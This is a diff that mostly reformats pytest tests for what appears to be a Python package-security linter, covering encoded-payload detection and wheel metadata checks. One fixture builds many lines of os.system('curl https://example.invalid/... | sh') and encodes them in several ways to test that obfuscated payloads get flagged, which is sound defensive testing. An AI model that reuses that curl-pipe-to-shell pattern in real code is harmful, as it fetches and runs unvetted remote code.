@@ -44,8 +44,9 @@ def parser(request: pytest.FixtureRequest) -> Parser:
     return module
 
 
-def _libcst_gap(request: pytest.FixtureRequest, parser: Parser, reason: str,
-                raises: type[BaseException] = AssertionError) -> None:
+def _libcst_gap(
+    request: pytest.FixtureRequest, parser: Parser, reason: str, raises: type[BaseException] = AssertionError
+) -> None:
     """A case where the libcst fallback is known to disagree with ``ast`` (found by running
     the tables through both): expected to fail there, strictly, so a fix shows up."""
     if parser.__name__.endswith("cstcheck"):  # type: ignore[attr-defined]
@@ -163,7 +164,8 @@ def test_deep_lint_leaves_ordinary_code_alone(parser: Parser) -> None:
 
 
 _PAYLOAD = b"import os\n" + b"".join(  # varied enough that it compresses to 1,000+ characters
-    f"os.system('curl https://example.invalid/{i * 7919 % 10007} | sh')\n".encode() for i in range(300))
+    f"os.system('curl https://example.invalid/{i * 7919 % 10007} | sh')\n".encode() for i in range(300)
+)
 
 
 def test_long_encoded_literals(parser: Parser) -> None:
@@ -183,19 +185,24 @@ _CODE = marshal.dumps(compile(_PAYLOAD, "m", "exec"))
 _MARSHALLED = (_CODE.hex(), "AB" + base64.b64encode(_CODE).decode())
 
 
-@pytest.mark.parametrize("encoded", [
-    base64.b64encode(_PAYLOAD).decode(),  # source text
-    base64.b64encode(zlib.compress(_PAYLOAD)).decode(),  # compressed
-    zlib.compress(_PAYLOAD).hex(),
-    "3" + zlib.compress(_PAYLOAD).hex(),  # shifted by a nibble
-    *_MARSHALLED,  # a code object; shifted quanta
-    base64.urlsafe_b64encode(pickle.dumps(list(range(500)))).decode(),
-])
+@pytest.mark.parametrize(
+    "encoded",
+    [
+        base64.b64encode(_PAYLOAD).decode(),  # source text
+        base64.b64encode(zlib.compress(_PAYLOAD)).decode(),  # compressed
+        zlib.compress(_PAYLOAD).hex(),
+        "3" + zlib.compress(_PAYLOAD).hex(),  # shifted by a nibble
+        *_MARSHALLED,  # a code object; shifted quanta
+        base64.urlsafe_b64encode(pickle.dumps(list(range(500)))).decode(),
+    ],
+)
 def test_long_literal_that_decodes_to_something_runnable_is_flagged(
-        request: pytest.FixtureRequest, parser: Parser, encoded: str) -> None:
+    request: pytest.FixtureRequest, parser: Parser, encoded: str
+) -> None:
     if encoded in _MARSHALLED:
-        _libcst_gap(request, parser, "libcst recurses once per implicitly concatenated string",
-                    RecursionError)
+        _libcst_gap(
+            request, parser, "libcst recurses once per implicitly concatenated string", RecursionError
+        )
     lines = "".join(f'    "{encoded[i : i + 76]}"\n' for i in range(0, len(encoded), 76))
     assert _rules(parser, f"X = (\n{lines})\n".encode()) == ["long-encoded-literal"]
 
@@ -274,14 +281,18 @@ def test_requires_dist_not_authoritative_is_unsettled(pkg_info: bytes, note: str
     )
 
 
-@pytest.mark.parametrize(("field", "wheel_line", "sdist_line"), [
-    ("Requires-Python", b"Requires-Python: >=3.9\n", b"Requires-Python: >=3.8\n"),
-    ("Provides-Extra", b"Provides-Extra: socks\n", b""),
-    ("Name", b"", b""),
-    ("Version", b"", b""),
-])
-def test_every_compared_field_is_unsettled_when_not_authoritative(field: str, wheel_line: bytes,
-                                                                   sdist_line: bytes) -> None:
+@pytest.mark.parametrize(
+    ("field", "wheel_line", "sdist_line"),
+    [
+        ("Requires-Python", b"Requires-Python: >=3.9\n", b"Requires-Python: >=3.8\n"),
+        ("Provides-Extra", b"Provides-Extra: socks\n", b""),
+        ("Name", b"", b""),
+        ("Version", b"", b""),
+    ],
+)
+def test_every_compared_field_is_unsettled_when_not_authoritative(
+    field: str, wheel_line: bytes, sdist_line: bytes
+) -> None:
     old = PKG_INFO.replace(b"2.2", b"2.1")
     wheel = PKG_INFO + wheel_line
     if field == "Name":
@@ -319,7 +330,10 @@ def test_record_rejects_weak_or_missing_hashes() -> None:
         "b.py": b"y",
     }
     messages = sorted(p.message for p in check_record(members, "d.dist-info"))
-    assert messages == ["RECORD gives no hash", "RECORD hash algorithm 'md5' is not one of sha256, sha384, sha512"]
+    assert messages == [
+        "RECORD gives no hash",
+        "RECORD hash algorithm 'md5' is not one of sha256, sha384, sha512",
+    ]
 
 
 def test_entry_points_parse() -> None:
@@ -358,8 +372,9 @@ _LIBCST_MISSES = {
 
 
 @pytest.mark.parametrize("source", HOSTILE)
-def test_prefilter_flags_what_the_parser_finds(request: pytest.FixtureRequest, parser: Parser,
-                                              source: bytes) -> None:
+def test_prefilter_flags_what_the_parser_finds(
+    request: pytest.FixtureRequest, parser: Parser, source: bytes
+) -> None:
     if source in _LIBCST_MISSES:
         _libcst_gap(request, parser, _LIBCST_MISSES[source])
     assert parser.deep_lint("m.py", source), source
@@ -423,8 +438,9 @@ def test_libcst_is_only_a_fallback() -> None:
         (b"x = 0x10\n", b"x = 16\n", CHANGE_FORMATTING),
     ],
 )
-def test_classify_change_follows_the_interpreter(request: pytest.FixtureRequest, parser: Parser,
-                                                old: bytes, new: bytes, change: str) -> None:
+def test_classify_change_follows_the_interpreter(
+    request: pytest.FixtureRequest, parser: Parser, old: bytes, new: bytes, change: str
+) -> None:
     if b";" in old or b": b()" in old:
         _libcst_gap(request, parser, "statements split over lines count as a code change")
     assert parser.classify_change(old, new) == change
